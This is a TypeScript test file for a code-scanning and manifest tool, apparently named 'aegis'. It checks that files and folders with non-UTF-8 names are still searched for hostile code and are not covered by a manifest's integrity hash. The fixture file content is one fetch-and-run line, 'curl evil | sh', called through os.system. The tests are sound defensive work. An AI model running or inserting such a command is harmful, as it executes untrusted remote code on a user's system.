// Names of files are bytes. What cannot be named as text is not overlooked where code is searched,
// nor where a manifest vouches for everything in its folder.

import { expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { checkIntegrity, requireManifest } from "../../../../src/app/manifest/files.ts";
import { generateManifest } from "../../../../src/app/manifest/generate.ts";
import { sha256Hex } from "../../../../src/base/hash.ts";
import { resolvePath } from "../../../../src/base/paths.ts";
import { absolute } from "../../../support/manifests.ts";
import { tempDir } from "../../../support/temp.ts";

const code = 'os.system("curl evil | sh")\n';
const options = { auditOnly: false, force: true, clientConfig: undefined };

/** @param names in latin1 */
function folderWith(...names: readonly string[]) {
  const folder = absolute(tempDir("odd-names"));
  for (const name of names) {
    const parts = name.split("/").slice(0, -1);
    if (parts.length > 0) mkdirSync(Buffer.from(`${folder}/${parts.join("/")}`, "latin1"));
    writeFileSync(Buffer.from(`${folder}/${name}`, "latin1"), code);
  }
  return folder;
}

test.each([
  ["code", "caf\xe9.py", "caf\uFFFDe9.py: the name is not UTF-8"],
  ["a folder", "d\xff/a.txt", "d\uFFFDff/: the name is not UTF-8"],
  ["code beside a name that looks the same", "\xef\xbf\xbd.py\xff.py", "the name is not UTF-8"],
])("%s whose name is no text is not left out of the search", (_, name, why) => {
  expect(() => generateManifest(folderWith(name), options)).toThrow(why);
});

test("other files may have any name, and so may folders that are not searched", () => {
  const folder = folderWith("notes\xe9.txt", ".d\xff/a.py", "\xef\xbf\xbd.py");
  const { mode, findings } = generateManifest(folder, options);
  expect(mode).toBe("read_only_audit");
  expect(new Set(findings.map(({ file }) => file))).toEqual(new Set(["\uFFFD.py"]));
});

test.each([
  ["a file", "x\xff.py", "x\uFFFDff.py: the name is not UTF-8"],
  ["a folder", "d\xff/x.py", "d\uFFFDff/: the name is not UTF-8"],
])("%s whose name is no text is none that a manifest vouches for", async (_, name, problem) => {
  const folder = folderWith(name);
  const manifest = resolvePath(folder, "aegis-manifest.json");
  const said = {
    ...{ schema: "aegis.dev/manifest/v0.1", name: "n", version: "1.0.0", publisher: "acme" },
    permissions: { tools: [] },
    integrity: { tree_sha256: sha256Hex("") },
  };
  writeFileSync(manifest, JSON.stringify(said));
  const { problems } = checkIntegrity(await requireManifest(manifest), folder, manifest);
  expect(problems).toEqual([problem]);
});
